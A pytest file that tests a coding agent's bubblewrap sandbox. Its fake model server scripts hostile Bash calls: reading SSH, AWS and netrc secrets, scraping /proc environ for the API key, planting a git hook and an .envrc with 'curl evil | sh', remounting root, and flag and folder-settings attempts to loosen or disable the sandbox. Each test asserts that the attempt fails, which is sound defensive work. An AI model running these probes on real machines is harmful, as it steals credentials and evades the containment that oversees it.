"""Bash in bubblewrap, through the real CLI (`python -m agent -p`) and a real bwrap.

The fake server scripts Bash calls; each test looks at what really happened on disk, on the network and
in the tool results the model was sent back. Default mode, no allow rules: a sandboxed command runs
without asking and the kernel keeps it inside the project."""

from __future__ import annotations

import http.server
import json
import os
import shutil
import tempfile
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.conftest import TEST_KEY
from tests.fake_anthropic import tool_block
from tests.security.hostile import result_text, settings, tool_results_sent
from tools.sandbox import probe

pytestmark = pytest.mark.skipif(not probe(os.environ.get("PATH")).ok,
                                reason="bubblewrap does not work here: " + probe(os.environ.get("PATH")).reason)


def _run(cli, fake, *commands: str, args: tuple[str, ...] = (), **env: str | None):  # noqa: ANN001, ANN202
    fake.reply(*(tool_block("Bash", {"command": c}, id=f"toolu_{i}") for i, c in enumerate(commands)))
    fake.text("done")
    result = cli("-p", "go", *args, **{"AGENT_SANDBOX": None, **env})
    assert result.code == 0, result.stderr
    return [result_text(b) for b in tool_results_sent(fake)], result


@pytest.fixture
def home() -> Iterator[Path]:
    """A user home with credential stores, used as HOME by the CLI. Outside /tmp: the sandbox's /tmp is a
    private tmpfs, so a write there never reaches the host and a secret there is never seen anyway."""
    h = Path(tempfile.mkdtemp(prefix="agent-sbx-home-", dir="/var/tmp"))
    try:
        yield _credentials(h)
    finally:
        shutil.rmtree(h, ignore_errors=True)


def _credentials(h: Path) -> Path:
    (h / ".ssh").mkdir(parents=True)
    (h / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL\n")
    (h / ".aws").mkdir()
    (h / ".aws" / "credentials").write_text("aws_secret_access_key=AWS-SECRET\n")
    (h / ".netrc").write_text("machine example.com password NETRC-SECRET\n")
    return h


def test_default_mode_runs_without_asking_and_writes_only_the_project(cli, workdir, home, fake_anthropic):
    outside = home / "outside.txt"
    results, _ = _run(cli, fake_anthropic, "echo inside > made.txt && cat made.txt",
                      f"echo x > {outside}; echo rc=$?", HOME=str(home))
    assert (workdir / "made.txt").read_text() == "inside\n"
    assert results[0] == "inside"
    assert not outside.exists()
    assert "Read-only file system" in results[1] and "rc=1" in results[1]


def test_secrets_and_the_agents_environment_are_out_of_reach(cli, workdir, home, agent_home, fake_anthropic):
    (agent_home / "projects").mkdir(parents=True, exist_ok=True)
    (agent_home / "projects" / "transcript.jsonl").write_text("OLD-TRANSCRIPT\n")
    (workdir / ".env").write_text(f"ANTHROPIC_API_KEY={TEST_KEY}\n")
    results, _ = _run(
        cli, fake_anthropic,
        f"cat {home}/.ssh/id_ed25519 {home}/.aws/credentials {home}/.netrc; echo rc=$?",
        # every process's environment that /proc shows, the agent's included if it were visible (through a
        # variable: the gate refuses a literal glob that reaches the agent's own /proc before the sandbox can)
        "p=/proc; cat $p/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c ANTHROPIC_API_KEY; "
        "echo pids=$(ls -d $p/[0-9]* | wc -l)",
        f"cat {agent_home}/projects/transcript.jsonl; cat .env; env | grep -c ANTHROPIC_API_KEY",
        HOME=str(home))
    joined = "\n".join(results)
    for secret in ("PRIVATE-KEY-MATERIAL", "AWS-SECRET", "NETRC-SECRET", TEST_KEY, "OLD-TRANSCRIPT"):
        assert secret not in joined
    assert results[1].startswith("0")  # no process environment in view holds the key
    pids = int(results[1].split("pids=")[1].split()[0])
    assert pids < 10  # a PID namespace of its own: the agent and the rest of the machine are not there


def _serve(body: Callable[[http.server.BaseHTTPRequestHandler], bytes]) -> Iterator[int]:
    """An HTTP server on the loopback answering every GET with `body(request)`; yields its port."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            self.send_response(200)
            self.end_headers()
            self.wfile.write(body(self))

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()


@pytest.fixture
def loopback_server() -> Iterator[int]:
    yield from _serve(lambda _request: b"REACHED")


def test_no_network_not_even_loopback(cli, workdir, fake_anthropic, loopback_server):
    probe_py = (f"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:{loopback_server}/', "
                "timeout=3).read())")
    results, _ = _run(cli, fake_anthropic, f"python3 -c \"{probe_py}\" 2>&1 | tail -1")
    assert "REACHED" not in results[0]
    assert "Connection refused" in results[0] or "unreachable" in results[0]


def test_protected_paths_stay_read_only_and_cannot_be_created(cli, workdir, fake_anthropic):
    git = workdir / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    before = sorted(p.name for p in workdir.iterdir())
    results, _ = _run(
        cli, fake_anthropic,
        "echo 'touch /tmp/pwned' > .git/hooks/pre-commit; echo '[core] fsmonitor=x' >> .git/config; "
        "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; mkdir -p .claude && echo '{}' > .claude/settings.json; "
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json; "
        "mv .git .git-old; mv .claude .c; ls -a")
    assert not (git / "hooks" / "pre-commit").exists()
    assert (git / "config").read_text() == "[core]\n"
    for name in (".envrc", ".mcp.json", ".claude", ".vscode", ".git-old", ".c"):
        assert not (workdir / name).exists(), name
    assert sorted(p.name for p in workdir.iterdir()) == before  # the placeholders are gone again
    assert results[0].count("Read-only file system") >= 4


def test_background_shell_is_sandboxed(cli, workdir, home, fake_anthropic):
    fake_anthropic.reply(tool_block("Bash", {"command": f"echo x > {home}/bg-outside; echo rc=$? > bg.txt",
                                             "run_in_background": True}, id="toolu_bg"))
    # The session kills its background shells when it ends: wait in it until the task has written.
    fake_anthropic.reply(tool_block("Bash", {"command": "for i in $(seq 200); do [ -s bg.txt ] && break; sleep 0.05; "
                                                        "done; cat bg.txt"}, id="toolu_wait"))
    fake_anthropic.text("done")
    result = cli("-p", "go", HOME=str(home), AGENT_SANDBOX=None)
    results = [result_text(b) for b in tool_results_sent(fake_anthropic)]
    assert "Command running in background" in results[0], result.stderr
    assert results[-1] == "rc=1"  # the write outside failed inside the background shell
    assert not (home / "bg-outside").exists()


def test_dangerously_disable_sandbox_is_asked_and_denied_in_print_mode(cli, workdir, home, fake_anthropic):
    fake_anthropic.reply(tool_block("Bash", {"command": f"echo x > {home}/out.txt",
                                             "dangerouslyDisableSandbox": True}, id="toolu_d"))
    fake_anthropic.text("done")
    result = cli("-p", "go", "--output-format", "json", HOME=str(home), AGENT_SANDBOX=None)
    assert not (home / "out.txt").exists()
    out = json.loads(result.stdout)
    assert [d["tool_name"] for d in out["permission_denials"]] == ["Bash"]


def test_sandbox_enabled_false_turns_it_off(cli, workdir, home, fake_anthropic):
    settings(home / ".claude" / "settings.json", {"sandbox": {"enabled": False}})
    results, _ = _run(cli, fake_anthropic, "touch made.txt", HOME=str(home))
    assert not (workdir / "made.txt").exists()  # back to the permission gate: -p cannot ask, so denied
    assert "requires approval" in results[0] or "haven't granted" in results[0]


def test_an_untrusted_folder_cannot_loosen_the_sandbox(cli, workdir, home, fake_anthropic):
    settings(workdir / ".claude" / "settings.json",
             {"sandbox": {"enabled": False, "excludedCommands": ["touch"], "network": {"allowedDomains": ["*"]}}})
    results, result = _run(cli, fake_anthropic, f"touch made.txt; touch {home}/outside; echo rc=$?", HOME=str(home))
    assert (workdir / "made.txt").exists() and not (home / "outside").exists()  # still sandboxed
    assert "sandbox.enabled: false" in result.stderr


def _fake_bwrap(tmp_path: Path) -> str:
    """A PATH whose bwrap cannot create namespaces (as in some containers), and everything else as usual."""
    bin_dir = tmp_path / "fakebin"
    bin_dir.mkdir()
    fake = bin_dir / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    return f"{bin_dir}:{os.environ['PATH']}"


def test_without_a_working_bwrap_the_gate_asks_as_before(cli, workdir, tmp_path, fake_anthropic):
    results, result = _run(cli, fake_anthropic, "touch made.txt", PATH=_fake_bwrap(tmp_path))
    assert not (workdir / "made.txt").exists()  # never an unsandboxed auto-allow
    lines = [line for line in result.stderr.splitlines() if "sandbox unavailable" in line]
    assert len(lines) == 1 and "apt-get install bubblewrap" in lines[0]
    assert "No permissions to creating new namespace" in lines[0]


def test_fail_if_unavailable_refuses_bash(cli, workdir, tmp_path, home, fake_anthropic):
    settings(home / ".claude" / "settings.json", {"sandbox": {"failIfUnavailable": True}})
    results, _ = _run(cli, fake_anthropic, "touch made.txt", "echo hi", args=("--permission-mode", "bypassPermissions"),
                      PATH=_fake_bwrap(tmp_path), HOME=str(home))
    assert not (workdir / "made.txt").exists()
    assert all("Sandbox is required (sandbox.failIfUnavailable)" in r for r in results)


def test_bwrap_missing_from_path(cli, workdir, tmp_path, fake_anthropic):
    bin_dir = tmp_path / "onlypython"
    bin_dir.mkdir()
    for tool in ("bash", "python3", "touch", "sh", "env"):
        found = shutil.which(tool)
        if found:
            (bin_dir / tool).symlink_to(found)
    results, result = _run(cli, fake_anthropic, "touch made.txt", PATH=str(bin_dir))
    assert not (workdir / "made.txt").exists()
    assert "bwrap was not found on PATH" in result.stderr


def test_the_system_prompt_tells_the_model(cli, workdir, fake_anthropic):
    fake_anthropic.text("hi")
    assert cli("-p", "hi", AGENT_SANDBOX=None).code == 0
    system = json.dumps(fake_anthropic.requests[0].body.get("system"))
    assert "## Bash command sandbox" in system and "dangerouslyDisableSandbox: true" in system
    tools = {t["name"]: t for t in fake_anthropic.requests[0].body["tools"]}
    assert "dangerouslyDisableSandbox" in tools["Bash"]["input_schema"]["properties"]


def test_root_cannot_remount_or_regain_capabilities(cli, workdir, fake_anthropic):
    if os.geteuid() != 0:
        pytest.skip("the point is root")
    results, _ = _run(cli, fake_anthropic,
                      "mount -o remount,rw / 2>&1; echo rc=$?; grep CapEff /proc/self/status; touch /usr/pwned; echo t=$?")
    assert "rc=0" not in results[0] and "CapEff:\t0000000000000000" in results[0] and "t=1" in results[0]
    assert not Path("/usr/pwned").exists()


def test_unix_sockets_are_refused(cli, workdir, tmp_path, fake_anthropic):
    results, _ = _run(cli, fake_anthropic,
                      "python3 -c 'import socket; socket.socket(socket.AF_UNIX)' 2>&1 | tail -1")
    assert "Operation not permitted" in results[0]


def test_doctor_says_whether_bubblewrap_works(cli, tmp_path):
    ok = cli("doctor", with_fake=False)
    assert "ok    sandbox: bubblewrap works" in ok.stdout
    broken = cli("doctor", with_fake=False, PATH=_fake_bwrap(tmp_path))
    line = next(x for x in broken.stdout.splitlines() if "sandbox:" in x)
    assert line.startswith("warn") and "cannot create its namespaces" in line and "apt-get install bubblewrap" in line


@pytest.fixture
def upstream() -> Iterator[int]:
    """A plain HTTP origin on the machine's loopback (reached by the proxy, never directly)."""
    yield from _serve(lambda request: f"ORIGIN host={request.headers.get('Host')}".encode())


def test_allowed_domains_go_through_the_filtering_proxy(cli, workdir, home, fake_anthropic, upstream):
    settings(home / ".claude" / "settings.json",
             {"sandbox": {"network": {"allowedDomains": ["localhost"], "deniedDomains": ["evil.localhost"]}}})
    get = ("import os, urllib.request as u; "
           "print(u.build_opener(u.ProxyHandler({'http': os.environ['HTTP_PROXY']})).open('http://%s:%d/', "
           "timeout=5).read().decode())")
    results, _ = _run(
        cli, fake_anthropic,
        # NO_PROXY names the sandbox's own loopback (local servers inside it): cleared to reach the origin.
        f"env -u NO_PROXY -u no_proxy python3 -c \"{get % ('localhost', upstream)}\" 2>&1 | tail -1",
        f"env -u NO_PROXY -u no_proxy python3 -c \"{get % ('127.0.0.1', upstream)}\" 2>&1 | tail -1",
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX)' 2>&1 | tail -1",
        # CONNECT, as an HTTPS client does it (a tunnel, here to the plain HTTP origin)
        "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', 3128)); "
        f"s.sendall(b'CONNECT localhost:{upstream} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: t\\r\\n"
        "Connection: close\\r\\n\\r\\n'); print(b''.join(iter(lambda: s.recv(65536), b'')).decode())\"",
        HOME=str(home))
    assert "200 Connection Established" in results[3] and "ORIGIN host=t" in results[3]
    assert results[0].startswith("ORIGIN host=localhost")  # allowed: through the proxy
    assert "403" in results[1] and "ORIGIN" not in results[1]  # 127.0.0.1 is not in the list
    assert "Operation not permitted" in results[2]  # the filter still holds for the command


def test_deny_read_hides_and_allow_read_reopens_inside_it(cli, workdir, home, fake_anthropic):
    (home / "data" / "public").mkdir(parents=True)
    (home / "data" / "private.txt").write_text("PRIVATE-DATA\n")
    (home / "data" / "public" / "ok.txt").write_text("PUBLIC-DATA\n")
    (workdir / ".env").write_text(f"ANTHROPIC_API_KEY={TEST_KEY}\n")
    settings(home / ".claude" / "settings.json",
             {"sandbox": {"filesystem": {"denyRead": ["~/data"], "allowRead": ["~/data/public", f"{workdir}/.env"]}}})
    results, _ = _run(cli, fake_anthropic, "cat ~/data/private.txt; cat ~/data/public/ok.txt; p=.e; cat ${p}nv",
                      HOME=str(home))
    assert "PRIVATE-DATA" not in results[0] and "PUBLIC-DATA" in results[0]
    assert TEST_KEY not in results[0]  # the file holding the agent's key is never re-opened
